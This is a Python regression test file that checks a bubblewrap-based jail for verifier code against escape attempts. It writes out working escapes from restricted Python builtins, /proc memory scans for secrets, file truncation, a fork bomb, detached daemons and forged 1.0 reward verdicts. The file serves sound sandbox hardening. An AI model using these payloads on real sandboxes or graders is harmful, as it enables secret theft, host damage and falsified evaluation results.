"""Escape regression tests for the verifier jail (maigym_ray/tasks/jail.py, maigym_ray/tasks/sandbox.py).

Each escape below is verifier code that returns 1.0 only if it reached its goal (a host file, a host command,
the app host's secret or control endpoint, a socket, a write outside, ...); some goals are also checked from
the host side (a file truncated, a connection accepted, a process left running). Every one must fail inside
the jail. The ``control`` tests run the harmless ones through the old protection (restricted builtins in a
plain child process) and show that they DO escape there, so these tests would fail if the jail were removed.

``python tests/integration/test_jail_escapes.py`` prints the figures: escapes tried / worked / forged verdicts
accepted.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from maigym_ray.errors import TaskError
from maigym_ray.tasks import jail
from maigym_ray.tasks.verifiers import run_verifier

pytestmark = pytest.mark.integration

# Three ways out of restricted builtins to the real os module (the audit's one-liners).
VIA_SUBCLASSES = """
def _os():
    for c in ().__class__.__mro__[1].__subclasses__():
        if c.__name__ == "BuiltinImporter":
            return c.load_module("posix")
"""
VIA_GLOBALS = """
def _os():
    for c in ().__class__.__mro__[1].__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__["__builtins__"]["__import__"]("os")
"""
VIA_FRAMES = """
def _frames_globals():
    box = []
    def g():
        f = box[0].gi_frame.f_back
        while f.f_back is not None:
            f = f.f_back
        yield f.f_globals
    gen = g()
    box.append(gen)
    return gen.send(None)
def _os():
    return _frames_globals()["os"]
"""

READ_HOST_FILE = """
def verify(states, answer):
    os = _os()
    try:
        fd = os.open({marker!r}, 0)
        return 1.0 if os.read(fd, 100) == {secret!r}.encode() else 0.0
    except Exception:
        return 0.0
"""
RUN_HOST_COMMAND = """
def verify(states, answer):
    imp = _os().__dict__.get("__builtins__", {{}})
    sp = imp["__import__"]("subprocess") if isinstance(imp, dict) else None
    try:
        out = sp.run(["/bin/cat", {marker!r}], capture_output=True, timeout=1).stdout
        return 1.0 if out == {secret!r}.encode() else 0.0
    except Exception:
        return 0.0
"""
SCAN_PROCESS_MEMORY = """
def verify(states, answer):
    os = _os()
    secret = {secret_rev!r}[::-1].encode()  # built at run time: the literal is not in anyone's memory
    me = os.getpid()
    def read(path, size=1 << 20):
        fd = os.open(path, 0)
        try:
            return os.read(fd, size)
        finally:
            os.close(fd)
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        for name in ("environ", "cmdline"):
            try:
                if secret in read(f"/proc/{{pid}}/{{name}}"):
                    return 1.0
            except Exception:
                pass
        try:
            maps = read(f"/proc/{{pid}}/maps", 1 << 22).decode()
            fd = os.open(f"/proc/{{pid}}/mem", 0)
        except Exception:
            continue
        for line in maps.splitlines():
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or (len(parts) > 5 and parts[5] != "[heap]") or hi - lo > 1 << 28:
                continue
            try:
                while lo < hi:
                    os.lseek(fd, lo, 0)
                    if secret in os.read(fd, min(hi - lo, 1 << 24)):
                        return 1.0
                    lo += 1 << 24
            except Exception:
                pass
    return 0.0
"""
CONTROL_ENDPOINT = """
def verify(states, answer):
    os = _os()
    imp = os.__dict__.get("__builtins__", {{}})
    socket = imp["__import__"]("socket")
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
        s.sendall(b"GET /_control/state HTTP/1.0\\r\\nX-Maigym-Secret: " + {secret_rev!r}[::-1].encode() + b"\\r\\n\\r\\n")
        return 1.0 if b" 200 " in s.recv(100) else 0.0
    except Exception:
        return 0.0
"""
OPEN_SOCKET = """
def verify(states, answer):
    imp = _os().__dict__.get("__builtins__", {{}})
    socket = imp["__import__"]("socket")
    try:
        s = socket.create_connection(("127.0.0.1", {listen_port}), timeout=1)
        s.sendall(b"escaped")
        return 1.0
    except Exception:
        return 0.0
"""
WRITE_OUTSIDE = """
def verify(states, answer):
    os = _os()
    done = 0.0
    for call in (lambda: os.truncate({victim!r}, 0), lambda: os.close(os.open({created!r}, 0o101, 0o644))):
        try:
            call()
            done = 1.0
        except Exception:
            pass
    return done
"""
FORK_BOMB = """
def verify(states, answer):
    os = _os()
    while True:
        try:
            os.fork()
        except Exception:
            pass
"""
DETACHED_GRANDCHILD = """
def verify(states, answer):
    os = _os()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # keeps stdout and stderr open, for longer than any deadline
            os.execv("/bin/sleep", ["sleep", "31.4159"])
        os._exit(0)
    return 0.0
"""
DAEMON = """
def verify(states, answer):
    os = _os()
    if os.fork() == 0:
        os.setsid()
        for fd in (0, 1, 2):
            os.close(fd)
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "27.1828"])
        os._exit(0)
    return 0.0
"""
# Forged verdicts: the code tries to make the caller read 1.0 although verify's own answer is 0 or nothing.
FORGE_PRINT = """
def verify(states, answer):
    _os().write(1, b'{{"value": 1.0}}\\n')
    return 0.0
"""
FORGE_PRINT_THEN_CRASH = """
def verify(states, answer):
    os = _os()
    os.write(1, b'{{"value": 1.0}}\\n')
    os._exit(1)
"""
FORGE_EXIT_EARLY = """
def verify(states, answer):
    _os()._exit(0)
"""
FORGE_EVERY_FD_TWICE = """
def verify(states, answer):
    os = _os()
    frame = b'\\x00\\x00\\x00\\x0e{{"value": 1.0}}'
    targets = list(range(0, 256))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                targets += [f"/proc/{{pid}}/fd/{{n}}" for n in os.listdir(f"/proc/{{pid}}/fd")]
            except Exception:
                pass
    for _ in range(2):
        for t in targets:
            try:
                if isinstance(t, int):
                    os.write(t, frame)
                else:
                    fd = os.open(t, 1)
                    os.write(fd, frame)
                    os.close(fd)
            except Exception:
                pass
    return 0.0
"""
FORGE_RESULT_PIPE_TWICE = """
def verify(states, answer):
    g = _frames_globals()
    os = g["os"]
    for name in ("w", "REPLY"):  # the runner's own pipes, found by walking frames
        try:
            os.write(g[name], b'{{"value": 1.0}}')
        except Exception:
            pass
    try:
        g["send"]({{"value": 1.0}})
    except Exception:
        pass
    return 0.0
"""
FORGE_KILL_RUNNER = """
def verify(states, answer):
    os = _os()
    os.write(1, b'{{"value": 1.0}}\\n')
    os.kill(os.getppid(), 9)
    return 1.0
"""


@dataclass(frozen=True)
class Escape:
    name: str
    code: str
    #: a forged-verdict attempt (counted separately)
    forged: bool = False
    #: harmless enough to run without the jail, to show the test can fail
    control: bool = False
    timeout_s: float = 2.0


ESCAPES = [
    Escape("subclass walk -> posix -> read a host file", VIA_SUBCLASSES + READ_HOST_FILE, control=True),
    Escape("__globals__ -> __import__ -> subprocess cat", VIA_GLOBALS + RUN_HOST_COMMAND, control=True),
    Escape("gi_frame.f_back -> os -> read a host file", VIA_FRAMES + READ_HOST_FILE, control=True),
    Escape(
        "read the app secret from /proc/*/environ|cmdline|mem",
        VIA_GLOBALS + SCAN_PROCESS_MEMORY,
        control=True,
        timeout_s=8.0,
    ),
    Escape("reach the app control endpoint on loopback", VIA_GLOBALS + CONTROL_ENDPOINT, control=True),
    Escape("open a loopback socket to the host", VIA_GLOBALS + OPEN_SOCKET, control=True),
    Escape("truncate / create a file outside", VIA_SUBCLASSES + WRITE_OUTSIDE, control=True),
    Escape("fork bomb", VIA_SUBCLASSES + FORK_BOMB),
    Escape("detached grandchild holding stdout", VIA_SUBCLASSES + DETACHED_GRANDCHILD),
    Escape("daemon left running", VIA_SUBCLASSES + DAEMON),
    Escape("forge: print a verdict", VIA_SUBCLASSES + FORGE_PRINT, forged=True),
    Escape("forge: print a verdict then crash", VIA_SUBCLASSES + FORGE_PRINT_THEN_CRASH, forged=True),
    Escape("forge: exit early", VIA_SUBCLASSES + FORGE_EXIT_EARLY, forged=True),
    Escape(
        "forge: frames to every fd and /proc/*/fd, twice", VIA_SUBCLASSES + FORGE_EVERY_FD_TWICE, forged=True
    ),
    Escape("forge: write the runner's pipes via frames", VIA_FRAMES + FORGE_RESULT_PIPE_TWICE, forged=True),
    Escape("forge: print a verdict, kill the runner", VIA_SUBCLASSES + FORGE_KILL_RUNNER, forged=True),
]

# The old protection (restricted builtins in an unjailed child), for the controls only.
_UNJAILED = r"""
import json, os, sys
SAFE = {n: __builtins__.__dict__[n] for n in (
    "abs all any bool dict enumerate filter float frozenset int isinstance len list map max min range "
    "reversed round set sorted str sum tuple zip ValueError KeyError TypeError Exception True False None"
).split()}
req = json.loads(sys.stdin.read())
scope = {"__builtins__": SAFE}
exec(compile(req["code"], "<verifier>", "exec"), scope)
print(json.dumps({"value": float(scope["verify"]({}, None))}))
"""


class Target:
    """The host-side things an escape aims at: a secret file, an app host with a secret, a listener, files."""

    def __init__(self, root: Path) -> None:
        from maigym_ray.apps.host import AppHost

        self.secret = os.urandom(16).hex()
        self.marker = root / "host_secret.txt"
        self.marker.write_text(self.secret)
        self.victim = root / "victim.txt"
        self.victim.write_text("intact")
        self.created = root / "created_by_jail.txt"
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.host = AppHost(["notes"], secret=self.secret)  # the parent holds the secret in memory
        asyncio.run_coroutine_threadsafe(self.host.start(), self.loop).result(10)
        # A service process that holds the secret in its environment and heap, as a node service launched with
        # it would. The parent's copy alone made the /proc scan's control flaky: late in a long run, the pytest
        # process's anonymous mappings merge past the scan's size cap and its copy of the secret goes unseen.
        self.service = subprocess.Popen(
            [sys.executable, "-c", "import sys, time; held = sys.stdin.readline() * 64; time.sleep(3600)"],
            stdin=subprocess.PIPE,
            env={**os.environ, "MAIGYM_TEST_APP_SECRET": self.secret},
        )
        assert self.service.stdin is not None
        self.service.stdin.write(self.secret.encode() + b"\n")
        self.service.stdin.flush()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.05)
        self.listen_port = self.listener.getsockname()[1]

    def fill(self, code: str) -> str:
        return code.format(
            marker=str(self.marker),
            secret=self.secret,
            secret_rev=self.secret[::-1],
            port=self.host.port,
            listen_port=self.listen_port,
            victim=str(self.victim),
            created=str(self.created),
        )

    def host_side_escape(self) -> str | None:
        """Evidence of an escape seen from outside, or None."""
        try:
            conn, _ = self.listener.accept()
            conn.close()
            return "a connection reached the host listener"
        except (TimeoutError, OSError):
            pass
        if self.victim.read_text() != "intact":
            return "a file outside was truncated"
        if self.created.exists():
            return "a file outside was created"
        if _survivors():
            return f"processes survived the jail: {_survivors()}"
        return None

    def close(self) -> None:
        self.service.kill()
        self.service.wait(10)
        asyncio.run_coroutine_threadsafe(self.host.stop(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(5)
        self.listener.close()


def _survivors() -> list[str]:
    """Processes a jail left behind: the marker sleeps, or anything still running as the jail's uid."""
    out = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
            uid = int(Path(f"/proc/{pid}/status").read_text().split("Uid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            continue
        if b"31.4159" in cmd or b"27.1828" in cmd or (uid == jail.JAIL_UID and b"-S\0-c" in cmd):
            out.append(f"{pid}:{cmd[:40]!r}")
    return out


def attempt(target: Target, esc: Escape) -> tuple[str, float]:
    """Runs one escape in the jail: ("escaped", seconds) or ("held: <outcome>", seconds)."""
    t0 = time.monotonic()
    params = {"code": target.fill(esc.code), "timeout_s": esc.timeout_s}
    try:
        reward = run_verifier({"name": "code", "params": params}, {}, None)
        outcome = f"value {reward.value}"
        escaped = reward.value >= 1.0 or reward.success
    except TaskError as exc:
        outcome, escaped = f"TaskError: {str(exc)[:70]}", False
    elapsed = time.monotonic() - t0
    time.sleep(0.05)  # let the kernel finish reaping the namespace before looking for survivors
    evidence = target.host_side_escape()
    if evidence:
        return f"escaped: {evidence}", elapsed
    return ("escaped: verdict 1.0" if escaped else f"held: {outcome}"), elapsed


def unjailed(target: Target, esc: Escape) -> float:
    proc = subprocess.run(
        [sys.executable, "-I", "-c", _UNJAILED],
        input=json.dumps({"code": target.fill(esc.code)}).encode(),
        capture_output=True,
        timeout=20,
        start_new_session=True,
    )
    return float(json.loads(proc.stdout.decode().strip().splitlines()[-1])["value"])


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    t = Target(tmp_path_factory.mktemp("jail_target"))
    yield t
    t.close()


@pytest.mark.parametrize("esc", ESCAPES, ids=[e.name for e in ESCAPES])
def test_escape_is_held_by_the_jail(target: Target, esc: Escape) -> None:
    outcome, elapsed = attempt(target, esc)
    OUTCOMES[esc.name] = outcome
    assert outcome.startswith("held"), f"{esc.name}: {outcome}"
    assert elapsed < esc.timeout_s + 1.5, f"{esc.name} took {elapsed:.1f} s (deadline {esc.timeout_s} s)"
    if esc.forged:
        assert "value 1.0" not in outcome


@pytest.mark.parametrize("esc", [e for e in ESCAPES if e.control], ids=[e.name for e in ESCAPES if e.control])
def test_control_the_same_escape_works_without_the_jail(target: Target, esc: Escape) -> None:
    # proves the escape and its detection are real: only the jail stands between them
    assert unjailed(target, esc) == 1.0
    target.host_side_escape()  # drain the listener's connection
    target.victim.write_text("intact")
    target.created.unlink(missing_ok=True)


def test_the_detached_grandchild_cannot_stretch_the_deadline(target: Target) -> None:
    code = VIA_SUBCLASSES + DETACHED_GRANDCHILD.replace("return 0.0", "while True:\n        pass")
    t0 = time.monotonic()
    with pytest.raises(TaskError, match=r"timed out after 1\.0 s"):
        run_verifier({"name": "code", "params": {"code": target.fill(code), "timeout_s": 1.0}}, {}, None)
    assert time.monotonic() - t0 < 1.8
    time.sleep(0.05)
    assert not _survivors()


def test_the_jail_refuses_without_bubblewrap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jail.shutil, "which", lambda name: None)
    jail._probe.cache_clear()
    with pytest.raises(TaskError, match="apt-get install bubblewrap"):
        run_verifier({"name": "code", "params": {"code": "def verify(s, a):\n    return 1"}}, {}, None)
    jail._probe.cache_clear()


def test_the_jail_refuses_when_namespaces_fail(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(jail.shutil, "which", lambda name: str(fake) if name == "bwrap" else None)
    jail._probe.cache_clear()
    with pytest.raises(TaskError, match=r"could not start.*No permissions.*namespaces"):
        run_verifier({"name": "code", "params": {"code": "def verify(s, a):\n    return 1"}}, {}, None)
    jail._probe.cache_clear()


def test_the_jail_binds_the_base_interpreter_of_a_venv() -> None:
    paths = jail._interpreter_paths()
    real = os.path.realpath(sys.executable)
    base = os.path.realpath(sys.base_prefix)
    assert any(real.startswith(p + "/") for p in [*paths, "/usr"])
    assert any(base == p or base.startswith(p + "/") for p in [*paths, "/usr"])


def test_figures(target: Target) -> None:
    figures = escape_figures(target)
    print(json.dumps(figures))
    assert figures["escapes_worked"] == 0 and figures["forged_accepted"] == 0


#: outcomes of the parametrised escape tests, so the figures need not run every escape twice
OUTCOMES: dict[str, str] = {}


def escape_figures(target: Target) -> dict[str, int]:
    tried = worked = forged_tried = forged_accepted = 0
    for esc in ESCAPES:
        outcome = OUTCOMES.get(esc.name) or attempt(target, esc)[0]
        tried += 1
        worked += outcome.startswith("escaped")
        forged_tried += esc.forged
        forged_accepted += esc.forged and outcome.startswith("escaped")
    return {
        "escapes_tried": tried,
        "escapes_worked": worked,
        "forged_tried": forged_tried,
        "forged_accepted": forged_accepted,
    }


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        t = Target(Path(d))
        try:
            for esc in ESCAPES:
                outcome, secs = attempt(t, esc)
                OUTCOMES[esc.name] = outcome
                print(f"{esc.name:55s} {secs:5.2f} s  {outcome}")
            print(json.dumps(escape_figures(t)))
        finally:
            t.close()
